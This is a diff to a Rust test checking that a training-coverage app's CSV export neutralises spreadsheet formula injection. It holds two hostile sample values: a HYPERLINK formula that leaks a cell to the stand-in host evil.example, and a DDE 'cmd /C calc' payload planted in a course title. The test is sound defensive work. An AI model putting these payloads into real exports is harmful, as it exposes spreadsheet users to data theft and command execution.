@@ -1750,8 +1750,16 @@ async fn one_address_guessing_many_accounts_is_slowed_too() {
 
 #[tokio::test]
 async fn a_formula_in_a_name_is_neutralised_in_the_csv_export_and_warned_at_import() {
-    let app = TestApp::spawn().await;
     let evil = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")";
+    // A course title is a trainer's words, and the matrix's header: a formula there too.
+    let content = common::content_copy();
+    let course = content.join("a-khung-phap-ly/course.md");
+    let text = std::fs::read_to_string(&course).unwrap().replace(
+        "title = \"Khung pháp lý về thương mại điện tử\"",
+        "title = \"@SUM(1+1)*cmd|' /C calc'!A0\"",
+    );
+    std::fs::write(&course, text).unwrap();
+    let app = TestApp::spawn_with_content(&content).await;
     let d1 = app.agency_id("GL-QLTT-D01").await;
     let p = person::Entity::find()
         .filter(person::Column::AgencyId.eq(d1))
@@ -1768,8 +1776,10 @@ async fn a_formula_in_a_name_is_neutralised_in_the_csv_export_and_warned_at_impo
         .get(&format!("/coverage/export/matrix.csv?agency={d1}"), Some(&t))
         .await;
     assert_eq!(csv.status, StatusCode::OK);
+    // The header row read as cells too.
     let mut reader = csv::ReaderBuilder::new()
         .delimiter(b';')
+        .has_headers(false)
         .from_reader(csv.body.trim_start_matches('\u{feff}').as_bytes());
     let cells: Vec<String> = reader
         .records()
@@ -1778,6 +1788,10 @@ async fn a_formula_in_a_name_is_neutralised_in_the_csv_export_and_warned_at_impo
     assert!(
         cells.iter().any(|c| c == &format!("'{evil}")),
         "the name is exported as text"
+    );
+    assert!(
+        cells.iter().any(|c| c == "'@SUM(1+1)*cmd|' /C calc'!A0"),
+        "the course title in the header is exported as text: {cells:?}"
     );
     assert!(
         cells.iter().all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])),
